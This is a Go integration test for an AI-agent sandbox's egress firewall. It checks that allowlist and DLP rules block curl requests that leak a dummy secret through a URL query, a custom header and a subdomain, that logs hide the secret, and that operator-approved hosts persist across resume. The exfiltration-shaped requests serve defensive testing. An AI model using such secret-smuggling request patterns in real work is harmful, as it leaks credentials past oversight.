package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/claude-bottle/claude-bottle/internal/approve"
	"github.com/claude-bottle/claude-bottle/internal/dockertest"
	"github.com/claude-bottle/claude-bottle/internal/images"
	"github.com/claude-bottle/claude-bottle/internal/layout"
	"github.com/claude-bottle/claude-bottle/internal/queue"
	"github.com/claude-bottle/claude-bottle/internal/testkit"
)

// TestLogsAndResumeKeepTheTrailDocker runs a bottle on the real engine in
// both shapes: the agent is blocked (an unlisted host, a known secret in a
// URL, a header and a subdomain), the operator approves a host live, the
// bottle is stopped and resumed. `logs` shows the blocks while it runs and
// after it stopped, never the secret; resume keeps the approved host, the
// audit log and the first run's logs.
func TestLogsAndResumeKeepTheTrailDocker(t *testing.T) {
	ctx := dockerSetup(t, 15*time.Minute)
	bin := buildCLI(t, ctx) // before probeHome leaves the source tree
	const secret = "probe-secret-value-0123456789"
	t.Setenv("PROBE_SECRET", secret)
	for _, shape := range []string{"legacy", "bundle"} {
		t.Run(shape, func(t *testing.T) {
			home := probeHome(t)
			os.WriteFile(filepath.Join(home, "bottles", "probe.md"), []byte("---\nimage: "+images.AgentTest+"\nenv:\n  PROBE_SECRET: ${PROBE_SECRET}\negress:\n  allowlist: [allowed.invalid]\n---\n"), 0o644)
			if shape == "bundle" {
				t.Setenv("CLAUDE_BOTTLE_SIDECAR_BUNDLE", "1")
			} else {
				t.Setenv("CLAUDE_BOTTLE_SIDECAR_BUNDLE", "")
			}
			slug := "logs-" + shape[:1] + dockertest.RunID()[1:6]
			t.Cleanup(func() { dockertest.CleanupProject(t, layout.ProjectName(slug)) })
			if _, errOut, err := run(t, "start", "--detach", "probe", "--slug", slug); err != nil {
				t.Fatalf("start: %v\n%s", err, errOut)
			}
			curl := func(args ...string) string {
				out, _, _ := run(t, append([]string{"exec", slug, "--", "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}"}, args...)...)
				return strings.TrimSpace(out)
			}
			if c := curl("http://not-allowed.invalid/"); c != "403" {
				t.Fatalf("unlisted host: %s", c)
			}
			for _, args := range [][]string{
				{"http://allowed.invalid/q?k=" + secret},
				{"-H", "X-Leak: " + secret, "http://allowed.invalid/"},
				{"http://" + secret + ".allowed.invalid/"},
			} {
				if c := curl(args...); c != "403" {
					t.Errorf("exfiltration %v: %s, want 403", args, c)
				}
			}
			checkLogs := func(when string) {
				t.Helper()
				human, errOut, err := run(t, "logs", slug)
				if err != nil {
					t.Fatalf("logs %s: %v\n%s", when, err, errOut)
				}
				if !strings.Contains(human, "BLOCK") || !strings.Contains(human, "not-allowed.invalid") || !strings.Contains(human, "rule=allowlist") {
					t.Errorf("logs %s lack the blocked request:\n%s", when, human)
				}
				if !strings.Contains(human, "rule=dlp.") {
					t.Errorf("logs %s lack the DLP blocks:\n%s", when, human)
				}
				js, _, err := run(t, "logs", "--json", "--blocked", slug)
				if err != nil {
					t.Fatal(err)
				}
				n := 0
				for _, line := range strings.Split(strings.TrimSpace(js), "\n") {
					var e map[string]any
					if err := json.Unmarshal([]byte(line), &e); err != nil {
						t.Fatalf("logs --json %s: %q: %v", when, line, err)
					}
					if e["decision"] != "block" && e["decision"] != "refused" {
						t.Errorf("--blocked let through %v", e)
					}
					n++
				}
				if n < 4 {
					t.Errorf("logs --json --blocked %s: %d events, want the 4 blocks:\n%s", when, n, js)
				}
				for _, out := range []string{human, js} {
					if strings.Contains(out, secret) {
						t.Errorf("logs %s show the secret:\n%s", when, out)
					}
				}
			}
			checkLogs("while running")
			checkFollow(t, slug, curl)
			if shape == "legacy" {
				checkExecAndCleanup(t, bin, slug)
			}

			// The operator allows a host live (the real applier: SIGHUP).
			qdir := layout.Paths{Root: home}.QueueDir(slug)
			p := &queue.Proposal{ID: queue.NewID(time.Now()), Kind: queue.KindPipelock, CreatedAt: time.Now().UTC(), Justification: "need it", Hosts: []string{"approved.invalid"}}
			if err := os.MkdirAll(qdir, 0o700); err != nil {
				t.Fatal(err)
			}
			if err := queue.WriteProposal(qdir, p); err != nil {
				t.Fatal(err)
			}
			a := approve.New(layout.Paths{Root: home}, nil) // a host approval never tears down
			ch, err := a.Plan(slug, p, nil)
			if err != nil {
				t.Fatal(err)
			}
			if err := a.Apply(ctx, ch); err != nil {
				t.Fatal(err)
			}
			if c := curl("http://approved.invalid/"); c == "403" {
				t.Errorf("the approved host is still blocked")
			}

			if _, errOut, err := run(t, "stop", slug); err != nil {
				t.Fatalf("stop: %v\n%s", err, errOut)
			}
			checkLogs("after stop")
			sd := layout.StateDir(filepath.Join(home, "state", slug))
			if _, errOut, err := run(t, "resume", "--detach", slug); err != nil {
				t.Fatalf("resume: %v\n%s", err, errOut)
			} else if !strings.Contains(errOut, "approved.invalid") {
				t.Errorf("resume does not say it keeps the approved host:\n%s", errOut)
			}
			if c := curl("http://approved.invalid/"); c == "403" {
				t.Errorf("resume lost the host approved live")
			}
			checkLogs("after resume") // the first run's logs are still there
			if _, errOut, err := run(t, "stop", slug); err != nil {
				t.Fatalf("stop: %v\n%s", err, errOut)
			}
			logs, _ := os.ReadFile(sd.ComposeLog())
			if n := pipelockStarts(string(logs)); n < 2 {
				t.Errorf("compose.log holds %d runs, want both", n)
			}
			audit, _ := os.ReadFile(sd.AuditLog())
			if !strings.Contains(string(audit), p.ID) {
				t.Errorf("resume dropped the audit log: %q", audit)
			}
			human, _, _ := run(t, "logs", slug)
			if !strings.Contains(human, "ANSWR") || !strings.Contains(human, p.ID) {
				t.Errorf("logs lack the operator's answer:\n%s", human)
			}
		})
	}
}

// checkExecAndCleanup: `exec <slug>` alone is a shell, exec allocates a
// terminal when it has one, and cleanup names a slug it found nothing of.
func checkExecAndCleanup(t *testing.T, bin, slug string) {
	t.Helper()
	root := NewRoot()
	var out, errb bytes.Buffer
	root.SetIn(strings.NewReader("echo in-shell-$(id -un); exit 3\n"))
	root.SetOut(&out)
	root.SetErr(&errb)
	root.SetArgs([]string{"exec", slug})
	err := root.Execute()
	if code := processExit(io.Discard, err); code != 3 || !strings.Contains(out.String(), "in-shell-") {
		t.Errorf("exec <slug> as a shell: code %d, out %q, err %q", code, out.String(), errb.String())
	}
	tty, err := exec.Command("script", "-qec", bin+" exec "+slug+" -- tty", "/dev/null").CombinedOutput()
	if err != nil || !strings.Contains(string(tty), "/dev/pts/") {
		t.Errorf("exec on a terminal allocated none: %v %q", err, tty)
	}
	notty, _, _ := run(t, "exec", slug, "--", "sh", "-c", "tty || true")
	if !strings.Contains(notty, "not a tty") {
		t.Errorf("exec without a terminal: %q", notty)
	}
	_, errOut, err := run(t, "cleanup", "--yes", "nobody-zz99z")
	if err == nil || !strings.Contains(errOut, "nothing of bottle nobody-zz99z found") {
		t.Errorf("cleanup of an unknown slug: %v %q", err, errOut)
	}
}

// pipelockStarts counts the runs in a compose.log: pipelock's "listening"
// lines (one per start of the firewall, legacy or bundle).
func pipelockStarts(log string) int {
	n := 0
	for _, l := range strings.Split(log, "\n") {
		if strings.Contains(l, `"msg":"listening"`) && strings.Contains(l, `"daemon":"pipelock"`) {
			n++
		}
	}
	return n
}

// checkFollow: `logs -f` (both forms) prints a request blocked after it
// started, then ends when its context does.
func checkFollow(t *testing.T, slug string, curl func(args ...string) string) {
	t.Helper()
	for _, form := range [][]string{{"logs", "-f", "--blocked"}, {"logs", "-f", "--json"}} {
		ctx, cancel := context.WithCancel(context.Background())
		root := NewRoot()
		var out testkit.SyncBuffer
		root.SetOut(&out)
		root.SetErr(io.Discard)
		root.SetArgs(append(form, slug))
		done := make(chan error, 1)
		go func() { done <- root.ExecuteContext(ctx) }()
		host := "follow-" + strings.Join(form[1:], "") + ".invalid"
		host = strings.ReplaceAll(host, "--", "-")
		curl("http://" + host + "/")
		deadline := time.Now().Add(20 * time.Second)
		for !strings.Contains(out.String(), host) && time.Now().Before(deadline) {
			time.Sleep(50 * time.Millisecond)
		}
		cancel()
		if err := <-done; err != nil {
			t.Errorf("%v: %v", form, err)
		}
		if !strings.Contains(out.String(), host) {
			t.Errorf("%v never showed the request blocked while it followed:\n%s", form, out.String())
		}
	}
}
